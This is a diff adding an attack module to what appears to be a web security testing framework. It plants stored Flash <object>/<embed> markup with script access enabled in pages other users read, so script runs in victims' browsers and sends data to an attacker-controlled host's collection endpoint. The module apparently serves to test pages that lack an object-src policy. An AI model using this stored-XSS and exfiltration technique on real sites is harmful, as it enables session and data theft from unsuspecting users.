@@ -1,0 +1,40 @@
+// xss-object: leaves a movie for the plug-in of an old browser in a page that others read. Where it
+// may be loaded it acts in the page, and no script-src is asked (CSP3, object-src;
+// https://csp-evaluator.withgoogle.com, "missing object-src").
+#include "core/attack/every_agent.h"
+#include "core/attack/page_script.h"
+#include "core/attack/stored_text.h"
+#include "core/attack/upload.h"
+
+namespace parapet::attack {
+namespace {
+
+class XssObject final : public Agent {
+    void run(Target& target) override {
+        OwnHost* evil = foreign_host(target);
+        if (evil == nullptr || target.victim() == nullptr) return;
+        evil->answer(evil->folder() + "c", {.status = 204});
+        http::Response const movie{.status = 200,
+                                   .headers = {{"content-type", std::string(kMovieType)}},
+                                   .body = taking_script(target, address_on(*evil, "c"))};
+        evil->answer(evil->folder() + "m.swf", movie);
+        std::vector<std::string> addresses{address_on(*evil, "m.swf")};
+        if (OwnHost* shared = shared_host(target)) {
+            shared->answer(shared->folder() + "m.swf", movie);
+            addresses.push_back(address_on(*shared, "m.swf"));
+        }
+        StoredText text(target);
+        for (std::string const& address : addresses) {
+            text.leave(movie_html(address));
+            text.leave("<embed type=\"" + std::string(kMovieType) + "\" src=" + in_quotes(address) +
+                       " allowscriptaccess=\"always\">");
+        }
+        victim_reads_and_loot_is_used(target);
+    }
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_xss_object() { return std::make_unique<XssObject>(); }
+
+}  // namespace parapet::attack
